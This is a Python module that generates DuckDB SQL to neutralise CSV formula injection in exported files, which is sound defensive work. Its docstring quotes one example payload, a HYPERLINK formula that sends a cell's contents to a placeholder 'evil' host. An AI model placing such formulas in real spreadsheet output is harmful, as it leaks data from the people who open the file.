"""CSV formula-injection neutralisation (OWASP "CSV Injection"), as SQL for DuckDB's COPY.

A spreadsheet opening exceptions.csv, a queue file attached to an e-mail or rejects.csv treats a
cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula:
`=HYPERLINK("http://evil/?"&A1,"x")` in a customer PO would run on the analyst's machine. The data
comes from extracts and EDI partners, i.e. from outside, so every text cell we write to a CSV that
starts with one of those characters gets a leading single quote, which spreadsheets show as text.

What is left alone, and why:
- columns that are not text (numbers, dates, booleans): a negative number is a number, never a
  formula, and its bytes must not change;
- text that is a plain decimal number (`-12.5`, `+3`, `-1.5e3`): `left_value` of a quantity
  mismatch is text holding a number, and a spreadsheet reads it as that number, not as a formula;
- Parquet files: typed, read by programs, not by spreadsheets.

`--csv-raw` (or `outputs.neutralise_csv: false`) turns it off for machine consumers that want the
values byte for byte. Functions here return SQL text; the caller runs it.
"""

from __future__ import annotations

from collections.abc import Sequence

from recon.sql import ident

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# RE2 patterns inside SQL string literals (no quote characters in them).
_STARTS_DANGEROUS = r"^[=+\-@\t\r]"
_PLAIN_NUMBER = r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$"
TEXT_TYPES = ("VARCHAR",)


def neutralise_sql(expr: str) -> str:
    """`expr` (text) with a leading `'` when it starts like a formula and is not a plain number."""
    return (f"CASE WHEN regexp_matches({expr}, '{_STARTS_DANGEROUS}') "
            f"AND NOT regexp_matches({expr}, '{_PLAIN_NUMBER}') THEN '''' || {expr} ELSE {expr} END")


def safe_select_sql(query: str, columns: Sequence[tuple[str, str]], order: str = "") -> str:
    """`query` with its text columns neutralised, every column in its place and under its name.

    `columns` is the query's (name, type) as DuckDB describes them; `order` an ORDER BY clause over
    those names, applied outside (a subquery's order is not guaranteed to survive).
    """
    cols = [f"{neutralise_sql(ident(name))} AS {ident(name)}" if kind.upper() in TEXT_TYPES else ident(name)
            for name, kind in columns]
    return f"SELECT {', '.join(cols)} FROM ({query}) AS q {order}".rstrip()

